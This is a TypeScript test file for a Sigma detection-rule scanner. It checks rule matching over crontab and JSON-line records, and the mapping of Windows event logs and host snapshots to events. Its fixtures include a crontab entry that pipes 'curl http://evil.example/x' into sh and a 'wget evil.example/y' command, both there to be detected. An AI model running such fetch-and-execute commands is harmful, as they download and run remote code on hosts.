import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import type { HostFormat, HostInput } from '@davylamp/intake'
import { parseRules } from './parse-rules.js'
import { RuleSet } from './rule-set.js'
import { scanSigma } from './scan-sigma.js'
import { emptyPicture } from '../../picture.js'
import { eventOfLog } from './event-of.js'
import { eventsOfPicture } from './events-of-picture.js'

const folder = mkdtempSync(join(tmpdir(), 'davylamp-sigma-'))
afterAll(() => rmSync(folder, { recursive: true }))

const rules = (logsource: string, selection: string) =>
  new RuleSet(
    parseRules(`title: T\nlogsource: ${logsource}\ndetection: { s: { ${selection} }, condition: s }`, 'a').rules,
  )

function input(format: HostFormat, text: string): HostInput {
  const path = join(folder, 'record')
  writeFileSync(path, text)
  const bytes = Buffer.from(text)
  return {
    source: path,
    format,
    lines(onLine) {
      for (const [i, line] of text.split('\n').entries()) onLine(line, i + 1)
      return Promise.resolve({ lines: 1, bytes: bytes.length, sha256: '', problems: [] })
    },
    bytes: () => Promise.resolve({ bytes, bytesInAll: bytes.length, sha256: '', problems: [] }),
  }
}

describe('rules over records', () => {
  const fetching = rules('{ category: process_creation, product: linux }', 'CommandLine|contains: evil.example')

  it('are asked over tables of commands, as one record', async () => {
    const findings = await scanSigma(input('crontab', '# m h\n*/5 * * * * curl http://evil.example/x | sh\n'), fetching)
    expect(findings.map(({ line, verdict }) => [line, verdict])).toEqual([[null, 'related']])
  })

  it('are asked over lines of JSON', async () => {
    const lines = `{"cmdline":"ls"}\n{"cmdline":"wget evil.example/y"}\nbroken\n`
    expect((await scanSigma(input('json-lines', lines), fetching)).map(({ line }) => line)).toEqual([2])
  })

  it('say nothing of an event log that is none', async () => {
    expect(await scanSigma(input('evtx', 'x'), fetching)).toEqual([])
  })
})

it('an event log gives channel, provider and data', () => {
  const channel = 'Microsoft-Windows-Sysmon/Operational Microsoft-Windows-Sysmon'
  const event = eventOfLog({ id: 1, channel, time: null, computer: 'PC', data: new Map([['Image', 'C:\\a.exe']]) })
  expect(event).toMatchObject({ product: 'windows', categories: ['process_creation'], service: 'sysmon' })
  expect(event.fields.get('Provider_Name')).toEqual(['Microsoft-Windows-Sysmon'])
  expect(rules('{ product: windows, service: sysmon }', 'Image|endswith: a.exe').matching(event)).toHaveLength(1)
  const security = eventOfLog({
    id: 4688,
    channel: 'Security Microsoft-Windows-Security-Auditing',
    time: null,
    computer: null,
    data: new Map(),
  })
  expect(security).toMatchObject({ categories: ['process_creation'], service: 'security' })
})

it('a picture gives an event for each thing in it', () => {
  const picture = {
    ...emptyPicture,
    subject: { kind: 'host', id: 'h' } as const,
    os: 'linux' as const,
    sockets: [{ pid: 1, remoteAddress: '10.0.0.1', remoteHost: null, remotePort: 3333, state: null }],
    registry: [{ key: 'HKLM\\Run', value: 'x' }],
  }
  expect(eventsOfPicture(picture).map(({ categories }) => categories)).toEqual([
    ['network_connection'],
    ['registry_set'],
  ])
})
